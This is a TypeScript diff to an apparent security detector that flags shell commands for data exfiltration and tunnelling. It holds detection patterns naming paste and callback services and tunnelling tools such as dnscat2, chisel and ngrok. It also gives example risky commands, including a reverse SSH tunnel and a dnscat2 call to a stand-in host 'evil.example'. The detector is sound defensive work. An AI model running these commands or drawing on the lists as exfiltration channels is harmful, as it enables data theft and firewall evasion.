@@ -3,7 +3,7 @@ import type { HostFact } from "../../../../shared/facts.ts";
 import { severity } from "../bands.ts";
 import { type Check, type Heuristic, clip, firstOf, onAnyCommand, onCommand } from "../heuristic.ts";
 import { isDownloader } from "../programs.ts";
-import { joined, operands } from "../read.ts";
+import { joined, operands, usedAsKey } from "../read.ts";
 
 const dropBox =
   /(?:^|\.)(?:transfer\.sh|file\.io|0x0\.st|ix\.io|termbin\.com|bashupload\.com|webhook\.site|requestbin\.\w+|requestcatcher\.com|pipedream\.net|beeceptor\.com|pastebin\.com|paste\.ee|hastebin\.com|dpaste\.\w+|sprunge\.us|anonfiles\.com|gofile\.io|catbox\.moe|temp\.sh|oshi\.at|interact\.sh|oast\.(?:pro|live|site|online|fun|me)|burpcollaborator\.net|dnslog\.cn|ngrok(?:-free)?\.(?:io|app|dev)|serveo\.net|localhost\.run|trycloudflare\.com|canarytokens\.\w+)$|^(?:discord(?:app)?\.com|hooks\.slack\.com|api\.telegram\.org|content\.dropboxapi\.com)$/u;
@@ -18,7 +18,7 @@ export const exfiltration: readonly Heuristic[] = [
     technique: "T1048",
     score: severity.critical,
     check: (view) => {
-      const path = view.facts.paths.find((each) => (each.zone === "secrets" && each.access === "read") || /^\/etc\/(?:shadow|master\.passwd)$/u.test(each.path));
+      const path = view.facts.paths.find((each) => (each.zone === "secrets" && each.access === "read" && !usedAsKey(each, view.facts.commands)) || /^\/etc\/(?:shadow|master\.passwd)$/u.test(each.path));
       const host = view.facts.hosts.find((each) => remote(each) && each.direction !== "download");
       return path === undefined || host === undefined ? null : { reason: `It reads ${path.path} and connects to ${host.host}`, evidence: clip(path.given) };
     },
@@ -105,13 +105,26 @@ export const exfiltration: readonly Heuristic[] = [
     technique: "T1572",
     score: severity.ask,
     check: firstOf(
-      onCommand(["ngrok", "cloudflared", "chisel", "frpc", "bore", "gost", "ligolo-ng", "iodine", "dnscat2", "dnscat", "localtunnel", "lt", "tor", "proxychains", "proxychains4", "stunnel", "zrok", "pagekite"], (command) =>
+      onCommand(["ligolo-ng", "iodine", "dnscat2", "dnscat", "ptunnel", "reGeorg"], (command) =>
         /^(?:--?version|--?help|version|help)$/u.test(command.arguments[0] ?? "") ? null : `${command.program} opens a way through the firewall`,
       ),
       onCommand(["ssh", "autossh"], (command) => (/(?:^|\s)-[a-zA-Z]*R(?:\s|\d)/u.test(joined(command)) ? "It opens a port on another machine that leads back here" : null)),
       onCommand(["code", "code-insiders", "devtunnel"], (command) => (operands(command)[0] === "tunnel" || command.program === "devtunnel" ? "It opens a way through the firewall" : null)),
     ),
-    examples: { risky: ["ngrok http 3000", "ssh -R 8080:localhost:80 user@evil.example", "code tunnel"], honest: ["ssh -L 5432:localhost:5432 host.example", "ngrok --version"] },
+    examples: { risky: ["dnscat2 evil.example", "ssh -R 8080:localhost:80 user@evil.example", "code tunnel"], honest: ["ssh -L 5432:localhost:5432 host.example", "ngrok --version"] },
+  },
+  {
+    id: "tunnel-program",
+    threat: "Data exfiltration",
+    technique: "T1572",
+    score: severity.warn,
+    check: firstOf(
+      onCommand(["ngrok", "cloudflared", "chisel", "frpc", "bore", "gost", "localtunnel", "lt", "tor", "torsocks", "proxychains", "proxychains4", "stunnel", "zrok", "pagekite"], (command) =>
+        /^(?:--?version|--?help|version|help|list|--?h)$/u.test(command.arguments[0] ?? "") ? null : `${command.program} can open a way through the firewall`,
+      ),
+      onCommand(["systemctl", "service"], (command) => (/\b(?:tor|i2pd?)\b/u.test(joined(command)) && /\b(?:start|enable|restart)\b/u.test(joined(command)) ? "It starts a hidden network" : null)),
+    ),
+    examples: { risky: ["ngrok http 3000", "service tor start"], honest: ["ngrok --version", "service nginx start"] },
   },
   {
     id: "reaches-network",
